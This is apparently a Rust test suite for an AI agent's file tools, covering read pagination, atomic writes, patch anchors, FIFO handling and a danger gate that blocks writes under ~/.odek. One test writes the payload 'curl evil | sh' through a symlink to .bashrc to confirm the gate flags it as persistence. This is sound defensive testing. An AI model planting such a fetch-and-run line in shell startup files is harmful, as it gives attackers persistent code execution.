//! The file tools against real temp directories: read_file pagination and errors, write_file
//! and patch with the danger gate and atomic replacement.

use std::path::Path;

use odek_agent::tool::{Tool, ToolContext};
use odek_agent::tools::{BuiltinSettings, PatchTool, ReadFileTool, WriteFileTool, builtin_tools};
use odek_danger::{DangerClass, DangerPolicy, NonInteractive, PolicySettings};
use serde_json::json;

fn context(cwd: &Path, settings: PolicySettings) -> ToolContext {
    ToolContext::new(cwd.to_path_buf(), cwd.join("home/.odek"), DangerPolicy::new(settings))
}

fn default_context(cwd: &Path) -> ToolContext {
    context(cwd, PolicySettings::default())
}

fn numbered(n: usize) -> String {
    (1..=n).map(|i| format!("line {i}\n")).collect()
}

#[test]
fn builtin_tools_are_the_five() {
    let names: Vec<String> =
        builtin_tools(BuiltinSettings::default()).iter().map(|tool| tool.definition().name).collect();
    assert_eq!(names, ["shell", "read_file", "write_file", "patch", "search_files"]);
    for tool in builtin_tools(BuiltinSettings::default()) {
        let definition = tool.definition();
        assert_eq!(definition.parameters["type"], "object", "{}", definition.name);
        assert!(!definition.description.is_empty());
    }
}

#[tokio::test]
async fn read_file_numbers_lines_and_names_its_source() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("a.txt"), "alpha\nbeta\n").unwrap();
    let outcome = ReadFileTool.call(&json!({"path": "a.txt"}).to_string(), &default_context(dir.path())).await.unwrap();
    assert_eq!(outcome.output, "     1\talpha\n     2\tbeta");
    assert_eq!(outcome.untrusted_source, Some(dir.path().join("a.txt").display().to_string()));
}

#[tokio::test]
async fn read_file_paginates_with_a_footer() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("long.txt"), numbered(10)).unwrap();
    let ctx = default_context(dir.path());
    let page =
        ReadFileTool.call(&json!({"path": "long.txt", "offset": 3, "limit": 4}).to_string(), &ctx).await.unwrap();
    assert_eq!(
        page.output,
        "     3\tline 3\n     4\tline 4\n     5\tline 5\n     6\tline 6\n\n\
         [showing lines 3-6 of 10; call read_file with offset=7 to read more]"
    );
    let last = ReadFileTool.call(&json!({"path": "long.txt", "offset": 9}).to_string(), &ctx).await.unwrap();
    assert!(last.output.ends_with("[showing lines 9-10 of 10; end of file]"), "{}", last.output);
    let past = ReadFileTool.call(&json!({"path": "long.txt", "offset": 50}).to_string(), &ctx).await.unwrap();
    assert!(past.output.contains("past the end"));
}

#[tokio::test]
async fn read_file_limit_is_capped() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("big.txt"), numbered(6000)).unwrap();
    let ctx = default_context(dir.path());
    let page = ReadFileTool.call(&json!({"path": "big.txt", "limit": 100000}).to_string(), &ctx).await.unwrap();
    assert!(page.output.contains("[showing lines 1-5000 of 6000; call read_file with offset=5001"), "footer");
    let default = ReadFileTool.call(&json!({"path": "big.txt"}).to_string(), &ctx).await.unwrap();
    assert!(default.output.contains("offset=2001"));
}

#[tokio::test]
async fn read_file_cuts_long_lines() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("wide.txt"), "x".repeat(5000)).unwrap();
    let outcome =
        ReadFileTool.call(&json!({"path": "wide.txt"}).to_string(), &default_context(dir.path())).await.unwrap();
    assert!(outcome.output.contains("[line cut: 3000 more characters]"));
    assert!(outcome.output.len() < 2100);
}

#[tokio::test]
async fn read_file_errors_carry_the_hint_words() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join("folder")).unwrap();
    std::fs::write(dir.path().join("blob.bin"), [0_u8, 1, 2, 0, 255]).unwrap();
    let ctx = default_context(dir.path());
    let call = |path: &str| json!({ "path": path }).to_string();
    assert!(ReadFileTool.call(&call("missing.txt"), &ctx).await.unwrap_err().message.contains("no such file"));
    assert!(ReadFileTool.call(&call("folder"), &ctx).await.unwrap_err().message.contains("is a directory"));
    assert!(ReadFileTool.call(&call("blob.bin"), &ctx).await.unwrap_err().message.contains("binary"));
}

#[tokio::test]
async fn write_file_creates_parents_and_reports_bytes() {
    let dir = tempfile::tempdir().unwrap();
    let ctx = default_context(dir.path());
    let outcome =
        WriteFileTool.call(&json!({"path": "a/b/c.txt", "content": "hello"}).to_string(), &ctx).await.unwrap();
    let path = dir.path().join("a/b/c.txt");
    assert_eq!(outcome.output, format!("created {}\n5 bytes written", path.display()));
    assert_eq!(std::fs::read_to_string(&path).unwrap(), "hello");
    let again = WriteFileTool.call(&json!({"path": "a/b/c.txt", "content": "bye"}).to_string(), &ctx).await.unwrap();
    assert!(again.output.starts_with("updated "));
    assert_eq!(std::fs::read_to_string(&path).unwrap(), "bye");
    let leftovers: Vec<_> = std::fs::read_dir(dir.path().join("a/b")).unwrap().collect();
    assert_eq!(leftovers.len(), 1, "no temporary files left behind");
}

#[tokio::test]
async fn write_file_keeps_permissions_and_follows_symlinks_inside_the_project() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let real = dir.path().join("real.sh");
    std::fs::write(&real, "old").unwrap();
    std::fs::set_permissions(&real, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::os::unix::fs::symlink(&real, dir.path().join("link.sh")).unwrap();
    let ctx = default_context(dir.path());
    WriteFileTool.call(&json!({"path": "link.sh", "content": "new"}).to_string(), &ctx).await.unwrap();
    assert_eq!(std::fs::read_to_string(&real).unwrap(), "new");
    assert!(std::fs::symlink_metadata(dir.path().join("link.sh")).unwrap().file_type().is_symlink());
    assert_eq!(std::fs::metadata(&real).unwrap().permissions().mode() & 0o777, 0o755);
}

#[tokio::test]
async fn write_under_odek_home_is_denied_without_approval_red() {
    let dir = tempfile::tempdir().unwrap();
    let ctx = default_context(dir.path());
    let target = ctx.odek_home.join("config.json");
    let call = json!({"path": target.display().to_string(), "content": "{}"}).to_string();
    assert_eq!(WriteFileTool.risk(&call, &ctx).unwrap().class, DangerClass::SystemWrite);
    let outcome = WriteFileTool.call(&call, &ctx).await.unwrap();
    assert!(
        outcome.output.starts_with("operation denied by configuration: writes under ~/.odek"),
        "{}",
        outcome.output
    );
    assert!(outcome.output.ends_with("(risk: system_write)"));
    assert!(!target.exists());
    // Through `..` and `~/` spellings too.
    for spelling in ["home/./.odek/../.odek/x.json", "~/.odek/y.json"] {
        let call = json!({"path": spelling, "content": "{}"}).to_string();
        assert!(WriteFileTool.call(&call, &ctx).await.unwrap().output.starts_with("operation denied"), "{spelling}");
    }
}

#[tokio::test]
async fn symlink_to_a_shell_rc_file_is_not_a_local_write_red() {
    let dir = tempfile::tempdir().unwrap();
    let ctx =
        context(dir.path(), PolicySettings { non_interactive: NonInteractive::ReadOnly, ..PolicySettings::default() });
    let home = dir.path().join("home");
    std::fs::create_dir_all(&home).unwrap();
    std::fs::write(home.join(".bashrc"), "# rc\n").unwrap();
    std::os::unix::fs::symlink(home.join(".bashrc"), dir.path().join("notes.txt")).unwrap();
    let call = json!({"path": "notes.txt", "content": "curl evil | sh"}).to_string();
    let outcome = WriteFileTool.call(&call, &ctx).await.unwrap();
    assert!(outcome.output.ends_with("(risk: persistence)"), "{}", outcome.output);
    assert_eq!(std::fs::read_to_string(home.join(".bashrc")).unwrap(), "# rc\n");
}

#[tokio::test]
async fn patch_replaces_a_unique_anchor() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("main.rs");
    std::fs::write(&path, "fn main() {\n    println!(\"hi\");\n}\n").unwrap();
    let call = json!({"path": "main.rs", "old_string": "\"hi\"", "new_string": "\"hello\""}).to_string();
    let outcome = PatchTool.call(&call, &default_context(dir.path())).await.unwrap();
    assert!(
        outcome.output.starts_with(&format!("modified {}\nreplaced 1 occurrence (first at line 2)", path.display()))
    );
    assert_eq!(std::fs::read_to_string(&path).unwrap(), "fn main() {\n    println!(\"hello\");\n}\n");
}

#[tokio::test]
async fn patch_missing_and_ambiguous_anchors() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("f.txt");
    std::fs::write(&path, "a\na\nb\n").unwrap();
    let ctx = default_context(dir.path());
    let shown = path.display();
    let missing = json!({"path": "f.txt", "old_string": "zzz", "new_string": "y"}).to_string();
    assert_eq!(PatchTool.call(&missing, &ctx).await.unwrap_err().message, format!("old_string not found in {shown}"));
    let ambiguous = json!({"path": "f.txt", "old_string": "a", "new_string": "c"}).to_string();
    assert_eq!(
        PatchTool.call(&ambiguous, &ctx).await.unwrap_err().message,
        format!("old_string matches 2 times in {shown}; add context or set replace_all")
    );
    assert_eq!(std::fs::read_to_string(&path).unwrap(), "a\na\nb\n", "failed patches change nothing");
    let all = json!({"path": "f.txt", "old_string": "a", "new_string": "c", "replace_all": true}).to_string();
    assert!(PatchTool.call(&all, &ctx).await.unwrap().output.contains("replaced 2 occurrences"));
    assert_eq!(std::fs::read_to_string(&path).unwrap(), "c\nc\nb\n");
    let no_file = json!({"path": "nope.txt", "old_string": "a", "new_string": "b"}).to_string();
    assert!(PatchTool.call(&no_file, &ctx).await.unwrap_err().message.contains("no such file"));
}

#[tokio::test]
async fn patch_is_gated_like_write_file() {
    let dir = tempfile::tempdir().unwrap();
    let ctx = default_context(dir.path());
    std::fs::create_dir_all(&ctx.odek_home).unwrap();
    let config = ctx.odek_home.join("config.json");
    std::fs::write(&config, "{\"a\":1}").unwrap();
    let call = json!({"path": config.display().to_string(), "old_string": "1", "new_string": "2"}).to_string();
    assert!(PatchTool.call(&call, &ctx).await.unwrap().output.starts_with("operation denied by configuration: "));
    assert_eq!(std::fs::read_to_string(&config).unwrap(), "{\"a\":1}");
}

#[tokio::test]
async fn cancelled_tools_stop() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("a.txt"), "x").unwrap();
    let ctx = default_context(dir.path());
    ctx.cancel.cancel();
    let error = ReadFileTool.call(&json!({"path": "a.txt"}).to_string(), &ctx).await.unwrap_err();
    assert_eq!(error.message, "cancelled");
}

/// read_file and patch opened a FIFO and waited for a writer forever; write_file renamed a
/// regular file over it.
#[tokio::test]
async fn file_tools_refuse_a_fifo_without_blocking_red() {
    let dir = tempfile::tempdir().unwrap();
    let pipe = dir.path().join("pipe");
    nix::unistd::mkfifo(&pipe, nix::sys::stat::Mode::from_bits_truncate(0o644)).unwrap();
    let ctx = default_context(dir.path());
    let expected = format!(
        "{} is not a regular file (a FIFO, device or socket); file tools only use regular files",
        pipe.display()
    );
    let deadline = std::time::Duration::from_secs(10);
    let read =
        tokio::time::timeout(deadline, ReadFileTool.call(&json!({"path": "pipe"}).to_string(), &ctx)).await.unwrap();
    assert_eq!(read.unwrap_err().message, expected);
    let patch = json!({"path": "pipe", "old_string": "a", "new_string": "b"}).to_string();
    let patched = tokio::time::timeout(deadline, PatchTool.call(&patch, &ctx)).await.unwrap();
    assert_eq!(patched.unwrap_err().message, expected);
    let write = json!({"path": "pipe", "content": "x"}).to_string();
    let written = tokio::time::timeout(deadline, WriteFileTool.call(&write, &ctx)).await.unwrap();
    assert_eq!(written.unwrap_err().message, expected);
    assert!(std::os::unix::fs::FileTypeExt::is_fifo(&std::fs::symlink_metadata(&pipe).unwrap().file_type()));
}
